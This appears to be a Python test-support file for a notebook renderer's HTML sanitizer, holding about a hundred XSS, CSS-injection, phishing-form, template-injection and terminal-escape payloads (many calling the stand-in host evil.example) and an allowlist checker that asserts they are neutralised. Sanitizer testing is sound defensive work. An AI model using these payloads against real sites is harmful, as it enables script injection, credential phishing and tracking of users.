"""Hostile content, notebooks that hold it, and a look through what became of it."""

from __future__ import annotations

import base64
import json
import re
from functools import lru_cache
from typing import Any

import html5lib

SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()
PAYLOADS = [
    r"$\href{javascript:alert(1)}{x}\style{position:fixed}{x}$ $\DeclareMathOperator{\x}{\href{javascript:alert(1)}{x}}\x$",
    r"$\bbox[position:fixed;background:url(https://evil.example/a.png)]{\unicode{x41}}\includegraphics{//evil.example/a.png}$",
    r"$\def\x{\x\x}\x$ $\newenvironment{x}{\begin{x}}{\end{x}}\begin{x}\end{x}$",
    "<b title='$<img src=x onerror=alert(1)>$'>$<img src=x onerror=alert(1)>$ \\\\(<script>alert(1)</script>\\\\)</b>",
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "</pre></div></td></table></div></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    "<img src='//evil.example/track.png'>",
    "<img src='\\\\evil.example\\track.png'>",
    "<img src='file:///etc/passwd'>",
    "<img src='../../../../etc/passwd'>",
    "<img srcset='https://evil.example/a.png 2x' src=a.png>",
    "<img src=a.png/onerror=alert(1)>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#1;java&#115;cript&colon;alert(1)'>x</a>",
    "<a href=' &#x0A;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    f"<a href='data:text/html;base64,{ENCODED}'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href=x ping='https://evil.example/'>x</a>",
    "<a href=x target=_top onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x\"onerror=\"alert(1)](a.png)",
    "![](attachment:missing.png)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<base href='https://evil.example/'>",
    "<base><base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<div style='color:red;background-image:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Sign in again</div>",
    "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='color:\\75rl(https://evil.example)'>x</div>",
    "<table><tr><td bgcolor='red;position:fixed;top:0;background-image:url(//evil.example)'>x</table>",
    "<font color='navy;position:fixed;top:0;background-image:url(//evil.example)'>x</font>",
    "<div class='modal position-fixed top-0 vw-100 vh-100'>x</div>",
    "<table background='https://evil.example/'><tr><td background='https://evil.example/'>x</table>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video poster='https://evil.example/'><source src='https://evil.example/' onerror=alert(1)></video>",
    "<audio src='https://evil.example/' autoplay onplay=alert(1)></audio>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><style><img src='</style><img src=x onerror=alert(1)>'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=csrf><p id=user-x><p name=location><a id=body name=body>x</a><p id=__proto__>",
    "<p is=x-evil slot=x contenteditable tabindex=1 accesskey=x autofocus onfocus=alert(1)>x</p>",
    "<input type=image src='https://evil.example/'><isindex action='javascript:alert(1)'>",
    "<marquee onstart=alert(1)>x</marquee><frameset><frame src='javascript:alert(1)'></frameset>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "{{ self.__init__.__globals__ }}{# #}{% raw %}",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[38;2;1;2;3\"onclick=alert(1)mx",
    "$<script>alert(1)</script>$ and $$\\href{javascript:alert(1)}{x}</div><script>alert(1)</script>$$",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```python\" onclick=\"alert(1)\nx\n```",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "--><script>alert(1)</script><!--",
    "]]></script><script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "\ufeff<script>alert(1)</script>\u202e\u2066",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=HYPERLINK(\"https://evil.example\")",
    SVG,
]  # fmt: skip


def notebook_of(*cells: Any, **metadata: Any) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}).encode()


def code(*outputs: Any, source: str = "1", **more: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1, "source": source}
    return {**cell, "outputs": list(outputs), **more}


def text(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": "b", "metadata": {}, "source": source, **more}


ATTRIBUTES = {
    "alt", "align", "bgcolor", "border", "class", "color", "colspan", "dir", "height", "href", "id", "lang", "nowrap", "open",
    "rel", "rowspan", "scope", "span", "src", "start", "style", "title", "type", "valign", "width",
}  # fmt: skip
ELEMENTS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del",
    "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "font", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "picture", "pre", "q", "rp", "rt", "ruby", "s", "samp",
    "small", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
    "tr", "tt", "u", "ul", "var", "wbr",
}  # fmt: skip


# Of what is nearly the same much is the same once it is clean, and to parse it is what takes the time.
@lru_cache(256)
def look_through(html: str) -> None:
    """Parse a fragment as a browser does, in the middle of a page, and fail for anything that acts, fetches or disguises."""
    page = html5lib.parse(f'<div id="outer">{html}<p id="after"></p></div>', namespaceHTMLElements=False)
    outer = page.find(".//*[@id='outer']")
    assert outer is not None and len(outer) and outer[-1].get("id") == "after", (
        "it closes or swallows what is around it"
    )
    for element in outer.iter():
        if element is outer or element.get("id") == "after":
            continue
        assert isinstance(element.tag, str), f"a comment: {element.text}"
        assert element.tag in ELEMENTS, element.tag
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, (element.tag, name)
            if name == "href":
                assert re.match(r"(?i:https?:|mailto:)|hubshare:|#", value), value
            if name == "src":
                assert re.fullmatch(
                    r"data:image/(png|jpeg|gif|webp|bmp|svg\+xml);base64,[\w+/=\s]*|hubshare:.*", value
                ), value
            if name == "style":
                assert re.fullmatch(r"[\w\s:;#.,%()-]*", value), value
                assert not re.search(r"url|expression|position|import|\\", value), value
            if name in ("color", "bgcolor"):
                assert re.fullmatch(r"#?\w+", value), value
            if name == "id":
                assert re.match(r"user-|cell-\d+$|cell-id-|L\d+$", value), value
            if name == "class":
                assert all(
                    re.fullmatch(r"(hs|ansi)-[a-z0-9-]+|dataframe|[a-z]{1,3}\d?", one) for one in value.split()
                ), value
        assert element.tag != "a" or "noopener" in (element.get("rel") or "noopener")
